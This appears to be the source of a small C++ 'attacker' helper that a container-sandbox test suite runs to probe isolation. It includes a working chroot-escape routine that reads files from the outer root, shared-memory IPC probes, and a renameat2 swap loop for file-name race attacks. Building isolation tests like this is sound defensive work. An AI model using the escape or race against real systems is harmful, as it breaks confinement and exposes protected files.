// What the attacks need and no shell can do. It runs inside containers, so it is static and on its
// own.
//
//   attacker read-shared KEY           print the System V shared memory KEY
//   attacker write-shared KEY TEXT     make it (0600) and put TEXT there
//   attacker escape PATH               leave a chroot, then print the file PATH of the outer root
//   attacker swap A B                  exchange the two names, over and over, until killed
//   attacker overwrite PATH            open PATH for writing: exit status 0 if that works

#include <fcntl.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

constexpr size_t kSize = 4096;

int fail(const char* call) {
  const int code = errno;
  std::fprintf(stderr, "%s: %s\n", call, std::strerror(code));
  return 1;
}

char* attach(const char* key, int flags) {
  const int id = ::shmget(static_cast<key_t>(std::atoi(key)), kSize, flags);
  if (id < 0) return nullptr;
  void* const memory = ::shmat(id, nullptr, 0);
  return memory == reinterpret_cast<void*>(-1) ? nullptr : static_cast<char*>(memory);
}

int write_shared(const char* key, const char* text) {
  char* const memory = attach(key, IPC_CREAT | IPC_EXCL | 0600);
  if (memory == nullptr) return fail("shmget");
  std::strncpy(memory, text, kSize - 1);
  return 0;
}

int read_shared(const char* key) {
  const char* const memory = attach(key, 0);
  if (memory == nullptr) return fail("shmget");
  std::puts(memory);
  return 0;
}

int print(const std::string& path) {
  std::FILE* const file = std::fopen(path.c_str(), "r");
  if (file == nullptr) return fail(path.c_str());
  for (int c = 0; (c = std::fgetc(file)) != EOF;) std::putchar(c);
  std::fclose(file);
  return 0;
}

/// A process's working directory may lie outside its root: chroot(2) moves the root only. From
/// there ".." leads up to the root of the mount namespace, since the walk never meets the process's
/// own root on its way.
int escape(const char* path) {
  if (::mkdir("/deeper", 0700) != 0 && errno != EEXIST) return fail("mkdir");
  if (::chdir("/") != 0) return fail("chdir");
  if (::chroot("/deeper") != 0) return fail("chroot");
  for (int i = 0; i < 64; ++i) {
    if (::chdir("..") != 0) return fail("chdir");
  }
  if (::chroot(".") != 0) return fail("chroot");
  return print(path);
}

int swap(const char* one, const char* other) {
  constexpr unsigned kExchange = 1U << 1U;  // RENAME_EXCHANGE
  for (;;) {
    if (::renameat2(AT_FDCWD, one, AT_FDCWD, other, kExchange) != 0) return fail("renameat2");
  }
}

int overwrite(const char* path) {
  const int fd = ::open(path, O_WRONLY);
  return fd < 0 ? fail(path) : 0;
}

}  // namespace

int main(int argc, char** argv) {
  const std::string what = argc > 2 ? argv[1] : "";
  if (what == "read-shared") return read_shared(argv[2]);
  if (what == "escape") return escape(argv[2]);
  if (what == "overwrite") return overwrite(argv[2]);
  if (what == "write-shared" && argc > 3) return write_shared(argv[2], argv[3]);
  if (what == "swap" && argc > 3) return swap(argv[2], argv[3]);
  std::fprintf(stderr, "attacker: see attacker.cpp for what it can do\n");
  return 2;
}
